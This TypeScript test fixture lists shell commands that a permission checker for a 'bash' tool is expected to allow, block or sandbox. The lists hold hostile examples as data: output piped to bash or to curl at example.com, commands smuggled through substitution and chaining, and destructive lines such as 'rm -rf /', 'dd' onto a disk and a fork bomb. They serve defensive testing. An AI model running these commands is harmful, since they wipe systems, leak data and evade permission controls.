// Command lines whose decision the tests of `bash` state one by one.
import { expect } from 'vitest'

/** Each combines `npm run x`, which is allowed, with something that is not. */
export const BESIDE: readonly string[] = [
  "npm run x | node -e 'evil()'", 'npm run x | bash', 'npm run x | sh -s', 'npm run x | tee pwned',
  'npm run x | xargs touch', 'npm run x | curl -d @- http://example.com', 'npm run x |& tee pwned',
  '! npm run x | tee pwned', 'npm run x | npm run y | tee pwned', 'npm run x | tee pwned | npm run y',
  'npm run x 2>&1 | dd of=pwned', 'npm run x && touch pwned', 'npm run x || touch pwned', 'npm run x; touch pwned',
  'npm run x\ntouch pwned', '! npm run x; touch pwned', 'npm run x & touch pwned', 'npm run x &',
  'touch pwned && npm run x', 'touch pwned | npm run x', 'npm run x <<EOF | tee pwned\ntext\nEOF',
  'npm run x <<EOF && touch pwned\ntext\nEOF', 'npm run x <<EOF\n$(touch pwned)\nEOF', 'npm run x <<< "$(touch pwned)"',
  'npm run $(touch pwned)', 'npm run "`touch pwned`"', 'npm run <(touch pwned)', 'npm run x > pwned',
  'npm run x 2>> pwned', 'npm run x &> pwned', 'npm run x > >(tee pwned)', '(npm run x; touch pwned)',
  '(npm run x) | tee pwned', '{ npm run x; touch pwned; }', 'for i in 1; do npm run x; touch pwned; done',
  'if npm run x; then touch pwned; fi', 'time npm run x | tee pwned', 'cd sub && npm run x', 'A=1 npm run x',
]

/** Each would run `touch`. */
export const RUN_TOUCH: readonly string[] = [
  'touch x', 'timeout 5 touch x', 'env A=1 touch x', '/usr/bin/touch x', 'ls; touch x', 'ls | xargs touch',
  'find . -exec touch {} +', "sh -c 'touch x'", "bash -c 'ls && touch x'", 'echo $(touch x)',
  'for i in 1; do touch x; done', 'git -c alias.x="!touch x" x', 'sudo touch x', 'sudo -n -u root touch x',
  'nice nohup touch x', 'git bisect run touch x', 'ssh host touch x', 'watch touch x', 'npx touch x',
  "timeout 5 sh -c 'exec env touch x'",
]

export const DESTRUCTIVE: readonly string[] = [
  'rm -rf /', 'rm -rf /*', 'rm -fr ~', 'sudo rm -rf /', "sh -c 'rm -rf /'", 'rm -r --no-preserve-root /',
  'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'echo x > /dev/sda', 'chmod -R 777 /',
  'cd .. && ls', 'shutdown now', 'find . -exec rm -rf / +',
]

/** Each only reads, with its result in the workspace of the test. */
export const READ_ONLY: readonly (readonly [command: string, result: object])[] = [
  ['ls', { stdout: 'a.txt\nb.txt\nbin\npackage.json\nsrc\nx.tgz\n' }],
  ['git status --short', { stdout: '?? x.tgz\n' }],
  ['git -C src status --short', { stdout: '?? ../x.tgz\n' }],
  ['git tag -l', { stdout: '', exit_code: 0 }],
  ['git config --get core.bare', { stdout: 'false\n' }],
  ['if [ -f a.txt ]; then cat a.txt; fi', { stdout: 'a foo\nb\n' }],
  ['x=1; echo $x', { stdout: '1\n' }],
  ['ls *.txt | xargs echo', { stdout: 'a.txt b.txt\n' }],
  ['grep -Rh foo src/x.ts', { stdout: 'foo\n' }],
  ['diff a.txt b.txt', { exit_code: 1, stdout: '2c2\n< b\n---\n> c\n' }],
  ['diff -r src src', { exit_code: 0, stdout: '' }],
  ['git blame -s a.txt', { stdout: expect.stringContaining('a foo') as string }],
  ['git stash list', { stdout: '', exit_code: 0 }],
  ['git cat-file -t HEAD', { stdout: 'commit\n' }],
  ['git worktree list', { exit_code: 0, stdout: expect.stringContaining('[') as string }],
  ['git -C . status --short', { stdout: '?? x.tgz\n' }],
  ['git symbolic-ref --short HEAD', { exit_code: 0 }],
  ['git log -1 --format=%s', { stdout: 'first\n' }],
  ["sed -n '/foo/p' a.txt", { stdout: 'a foo\n' }],
  ["sed -e 's/a/b/g' -e 1q a.txt", { stdout: 'b foo\n' }],
  ["awk '{print $1}' a.txt", { stdout: 'a\nb\n' }],
  // Links that lead out of the workspace lead nowhere.
  ["find src -name '*.ts' -exec grep -h foo {} + | sort", { stdout: 'foo\nfoo two\n' }],
  [
    "find src -name '*.ts' -print0 | xargs -0 grep -h foo | sort",
    { stdout: 'foo\nfoo two\n', stderr: expect.stringContaining('link.ts: No such file') as string },
  ],
  [
    'wc -l $(git ls-files "src/[lx]*.ts")',
    {
      stdout: expect.stringContaining('1 src/x.ts\n') as string,
      stderr: expect.stringContaining('link.ts: No such file') as string,
    },
  ],
  ['ls *.txt | xargs grep -h foo | sort', { stdout: 'a foo\na foo\n' }],
  ['ls | xargs -n1 basename', { stdout: 'a.txt\nb.txt\nbin\npackage.json\nsrc\nx.tgz\n' }],
  ['time ls', { stderr: expect.stringContaining('real') as string }],
  ['(cd src && ls)', { stdout: 'link.ts\nwith space.ts\nx.ts\n' }],
  ['(cd src && ls); ls -d src', { stdout: 'link.ts\nwith space.ts\nx.ts\nsrc\n' }],
  ['cat {a,b}.txt', { stdout: 'a foo\nb\na foo\nc\n' }],
  ['command -v sh', { stdout: expect.stringContaining('/sh') as string }],
  ['python3 --version', { exit_code: expect.anything() as number }],
  ['tar tzf x.tgz', { stdout: 'a.txt\n' }],
  ['[ -f a.txt ] && echo y', { stdout: 'y\n' }],
  ['[[ -f nowhere ]] || echo n', { stdout: 'n\n' }],
  ['echo "now $(echo in there)"', { stdout: 'now in there\n' }],
  ['wc -l $(git ls-files "*.txt")', { stdout: expect.stringContaining('4 total') as string }],
  ['false; echo "$?"', { stdout: '1\n' }],
  ['echo $HOME', { exit_code: 0 }],
  ['for f in *.txt; do head -n 1 "$f"; done', { stdout: 'a foo\na foo\n' }],
  ['while read l; do echo "[$l]"; done < a.txt', { stdout: '[a foo]\n[b]\n' }],
  ['NO_COLOR=1 git diff', { exit_code: 0 }],
  ['find . -name a.txt -exec md5sum {} +', { stdout: expect.stringContaining('./a.txt') as string }],
  ['timeout 9 md5sum a.txt', { stdout: expect.stringContaining('a.txt') as string }],
  ['NO_COLOR=1 md5sum a.txt', { stdout: expect.stringContaining('a.txt') as string }],
  ['cat a.txt | tee /dev/null', { stdout: 'a foo\nb\n' }],
]

/** Each runs unasked without a wall, because it has no options. */
export const WITHOUT_OPTIONS: readonly string[] = [
  'ls', 'cat a.txt', 'cat a.txt b.txt', 'ls | sort', 'cd src && ls', 'wc a.txt', 'grep foo a.txt', 'cat < a.txt',
  'echo a && pwd', 'timeout 5 ls',
]

/** Each asks without a wall. */
export const NEED_A_WALL: readonly string[] = [
  'cat *.txt', 'diff a.txt a.txt', 'date', '(cd src && ls)', 'x=1; echo $x', 'ls -la', 'ls | sort -n',
  'cd src && ls -a', 'cat -- a.txt', 'head -5 a.txt', 'git status', 'git log', 'echo "$(git log)"',
  'for f in *.txt; do wc -l "$f"; done', 'timeout -k 1 5 ls', 'find .', 'sed p a.txt', "awk '{print}' a.txt",
  'jq . package.json', 'tar tf x.tgz', '[ -f a.txt ]', 'ls | xargs wc', 'node --version', 'command -v sh',
  'git version',
]
